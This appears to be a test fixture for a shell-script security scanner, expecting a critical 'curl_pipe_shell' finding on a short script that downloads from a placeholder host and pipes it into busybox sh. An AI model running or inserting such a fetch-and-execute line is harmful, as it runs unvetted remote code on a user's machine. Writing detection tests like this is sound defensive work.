# expect: shell.curl_pipe_shell critical
# path: scripts/o.sh
#!/bin/sh
curl -s https://get.example.net/x | busybox sh
